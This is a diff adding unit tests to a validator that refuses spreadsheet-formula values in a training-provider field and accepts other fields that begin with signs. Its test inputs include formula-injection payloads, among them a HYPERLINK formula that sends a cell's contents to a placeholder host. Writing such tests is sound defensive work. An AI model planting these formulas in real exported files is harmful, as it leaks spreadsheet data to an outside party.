@@ -63,6 +63,22 @@ describe('a field that is not as it should be is named, and its value is not', (
     }
   }
 
+  test.for(['=HYPERLINK("http://x/?"&B2,"ok")', '+1A', '-1A', '@SUM(1)', '  =1', '＝1+1', '＠1'])(
+    'a training provider that a spreadsheet would take for a formula: %s',
+    (trainingProvider) => {
+      const result = screened(certificateIssued('P-1', { trainingProvider }))
+      expect(result).toMatchObject({ refused: { reason: 'malformed' } })
+      expect('refused' in result && result.refused.detail).toMatch(/^trainingProvider: begins as a formula/)
+    },
+  )
+
+  test('what is in no file may begin as it likes, and so may a number with its country', () => {
+    const account = { accountNumber: '+6281255550000', holderName: '-Sinta Dewi' }
+    expect(screened(accountLinked('P-1', account))).not.toHaveProperty('refused')
+    const certificate = { certificateId: '-C-1', trainingId: '@T-1', trainingProvider: 'a-b=c+d@e' }
+    expect(screened(certificateIssued('P-1', certificate))).not.toHaveProperty('refused')
+  })
+
   const around = ['version', 'id', 'time', 'region', 'detail-type', 'source', 'account', 'detail']
   test.for(around)('the envelope: %s', (field) => {
     const wrongText = field === 'time' ? [...times, ...farTimes, ''] : []
